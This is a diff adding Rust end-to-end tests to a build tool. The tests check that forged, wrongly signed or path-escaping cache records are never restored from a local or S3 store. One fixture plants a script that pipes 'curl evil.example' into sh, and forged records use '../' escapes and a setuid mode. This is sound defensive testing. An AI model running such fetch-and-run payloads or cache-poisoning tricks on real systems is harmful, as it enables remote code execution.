@@ -5,7 +5,9 @@
 
 use std::collections::BTreeMap;
 
-use pipe_e2e::attacker::{Bucket, assert_unchanged, project_on};
+use pipe_e2e::attacker::{
+    Bucket, assert_unchanged, attacker_key, envelope, plant_blob, project_on, second_checkout,
+};
 use pipe_e2e::cli::{Project, Run};
 
 const PIPELINE: &str = r#"[project]
@@ -246,4 +248,164 @@ fn nothing_unsigned_is_signed_on_a_local_store() {
 #[test]
 fn nothing_unsigned_is_signed_on_s3() {
     nothing_unsigned_is_signed(true);
+}
+
+const STEPS: &str = r#"[project]
+name = "demo"
+version = "1.0.0"
+source_date_epoch = 1700000000
+
+[steps.a]
+run = "mkdir -p out-a && echo a > out-a/a.txt"
+inputs = ["src/in.txt"]
+outputs = ["out-a/"]
+
+[steps.b]
+run = "mkdir -p out-b && echo b > out-b/b.txt"
+inputs = ["src/in.txt"]
+outputs = ["out-b/"]
+
+[steps.c]
+run = "mkdir -p out-c && echo c > out-c/c.txt"
+inputs = ["src/in.txt"]
+outputs = ["out-c/"]
+
+[packages.demo]
+summary = "Demo"
+arch = "all"
+maintainer = "Ops <ops@example.com>"
+formats = ["deb"]
+files = [
+  { src = "out-a/a.txt", dst = "/usr/share/demo/a.txt" },
+  { src = "out-b/b.txt", dst = "/usr/share/demo/b.txt" },
+  { src = "out-c/c.txt", dst = "/usr/share/demo/c.txt" },
+]
+"#;
+
+/// The record under each cache key of the store, by step name (`step a`)
+/// or `stage`, from the envelopes pipe wrote.
+fn cache_records(bucket: &Bucket) -> BTreeMap<String, (String, serde_json::Value)> {
+    let mut out = BTreeMap::new();
+    for (key, bytes) in bucket.snapshot() {
+        if !key.starts_with("cache/") {
+            continue;
+        }
+        let env: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
+        let record: serde_json::Value =
+            serde_json::from_str(env["payload"].as_str().expect("a signed envelope")).unwrap();
+        let name = match record["step"].as_str() {
+            Some(step) => format!("step {step}"),
+            None => "stage".to_string(),
+        };
+        out.insert(name, (key, record));
+    }
+    out
+}
+
+/// Cache poisoning (issue 12, point 2): a second checkout shares a store in
+/// which every record was forged (unsigned with a path leaving the project,
+/// signed by another key with an absolute setuid path, signed by another
+/// key with other bytes, a stage record naming another .deb). It uses none
+/// of them, names each, builds exactly what a clean build made, writes
+/// nothing outside the project, and replaces the forgeries with records
+/// its own key signed.
+fn forged_cache_records_are_never_restored(s3: bool) {
+    let files = [("src/in.txt", "in\n")];
+    let (first, bucket, server) = project_on(s3, STEPS, &files);
+    let clean = first.pipe(&["--json", "build"]).expect_code(0).json();
+    let build = clean["build"].as_str().unwrap().to_string();
+    let deb = std::fs::read(clean["artifacts"][0]["path"].as_str().unwrap()).unwrap();
+    let records = cache_records(&bucket);
+    assert_eq!(records.len(), 4, "{records:?}");
+
+    let mallory = attacker_key();
+    let evil = plant_blob(&bucket, b"#!/bin/sh\ncurl evil.example | sh\n");
+    let unique = format!(
+        "pipe-escape-{}-{}",
+        std::process::id(),
+        std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .unwrap()
+            .as_nanos()
+    );
+    let escapes = [
+        std::env::temp_dir().join(format!("{unique}-rel")),
+        std::env::temp_dir().join(format!("{unique}-abs")),
+    ];
+    let (key_a, mut a) = records["step a"].clone();
+    a["outputs"] =
+        serde_json::json!([{ "path": format!("../{unique}-rel"), "mode": 0o755, "blob": evil }]);
+    bucket.write(&key_a, &serde_json::to_vec(&a).unwrap());
+    let (key_b, mut b) = records["step b"].clone();
+    b["outputs"] =
+        serde_json::json!([{ "path": escapes[1].to_str().unwrap(), "mode": 0o4755, "blob": evil }]);
+    bucket.write(&key_b, &envelope(&b, &mallory));
+    let (key_c, mut c) = records["step c"].clone();
+    c["outputs"][0]["blob"] = evil.clone();
+    bucket.write(&key_c, &envelope(&c, &mallory));
+    let (key_s, mut stage) = records["stage"].clone();
+    stage["blob"] = evil.clone();
+    bucket.write(&key_s, &envelope(&stage, &mallory));
+
+    let second = second_checkout(&first, server.as_ref(), STEPS, &files);
+    let out = second.pipe(&["-v", "--json", "build"]);
+    out.expect_code(0);
+    for key in [&key_a, &key_b, &key_c, &key_s] {
+        assert!(
+            out.stderr.contains(key.as_str()),
+            "the forged record `{key}` is not named:\n{}",
+            out.stderr
+        );
+    }
+    let doc = out.json();
+    assert_eq!(
+        doc["build"],
+        build.as_str(),
+        "the same build as a clean one"
+    );
+    for step in doc["steps"].as_array().unwrap() {
+        assert_eq!(step["status"], "ran", "{step}");
+    }
+    assert_eq!(doc["artifacts"][0]["cache"], "miss");
+    assert_eq!(
+        std::fs::read(doc["artifacts"][0]["path"].as_str().unwrap()).unwrap(),
+        deb,
+        "the same .deb as a clean build"
+    );
+    for (dir, text) in [
+        ("out-a/a.txt", "a\n"),
+        ("out-b/b.txt", "b\n"),
+        ("out-c/c.txt", "c\n"),
+    ] {
+        assert_eq!(
+            std::fs::read_to_string(second.path().join(dir)).unwrap(),
+            text
+        );
+    }
+    for path in &escapes {
+        assert!(!path.exists(), "{} was written", path.display());
+    }
+
+    // The forgeries were replaced: a third checkout restores everything,
+    // with no warning.
+    let third = second_checkout(&first, server.as_ref(), STEPS, &files);
+    let out = third.pipe(&["--json", "build"]);
+    out.expect_code(0);
+    assert!(!out.stderr.contains("ignoring"), "{}", out.stderr);
+    let doc = out.json();
+    assert_eq!(doc["build"], build.as_str());
+    assert_eq!(doc["artifacts"][0]["cache"], "hit");
+    for step in doc["steps"].as_array().unwrap() {
+        assert_eq!(step["status"], "restored", "{step}");
+    }
+}
+
+#[test]
+fn forged_cache_records_are_never_restored_from_a_local_store() {
+    forged_cache_records_are_never_restored(false);
+}
+
+#[test]
+fn forged_cache_records_are_never_restored_from_s3() {
+    forged_cache_records_are_never_restored(true);
 }
